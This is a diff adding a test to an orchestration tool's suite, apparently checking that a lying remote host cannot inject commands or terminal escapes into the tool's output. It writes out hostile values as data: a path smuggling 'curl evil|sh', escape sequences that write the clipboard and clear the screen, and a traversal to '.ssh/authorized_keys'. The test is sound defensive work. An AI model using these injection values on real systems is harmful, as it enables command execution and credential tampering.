@@ -115,6 +115,31 @@ def test_a_host_that_lies_fails_alone_and_writes_nothing_to_the_terminal_or_the_
     assert left <= {"mine", ".gitignore", "node-0", "x.txt", "report.html", "report.json"}
 
 
+FULL = """
+_look = look
+
+def look(*arguments):
+    said = _look(*arguments)
+    path = "/x; curl evil|sh #" + chr(27) + "]52;c;Zm9v" + chr(7) + chr(27) + "[2J" + chr(10) + "error: EVIL"
+    said["disks"]["state"].update(path=path, free=7)
+    return said
+"""
+
+
+def test_check_shows_no_escape_of_a_host_and_quotes_what_is_to_be_pasted(lab2: Lab) -> None:
+    inventory = lab2.inventory()
+    ok(orch(lab2, "check", inventory, "--quick"))
+    (program,) = lab2.hosts[1].home.glob(".local/state/ddp-orch/node-*")
+    probe = program / "node/probe.py"
+    probe.write_text(probe.read_text() + FULL)
+    for argv in (("check", inventory, "--quick"), ("up", inventory, "-d", "--", script(lab2, "print('hi')"))):
+        result = ok(orch(lab2, *argv), 3)
+        said = result.stdout + result.stderr
+        assert "curl evil" in said and not CONTROL.search(said)
+        assert not any(line.startswith("error: EVIL") for line in said.splitlines())
+        assert "du -xsh '/x; curl evil|sh # error: EVIL'/* | sort -h" in said
+
+
 MORE_LIES = {
     # answers to `send` and `outputs`; to `record`; to `evidence`; to `sample`
     "outputs": ("fetch", "listing = lambda *_: {'files': [['../../.ssh/authorized_keys', 5, 1]], 'links': 0}"),
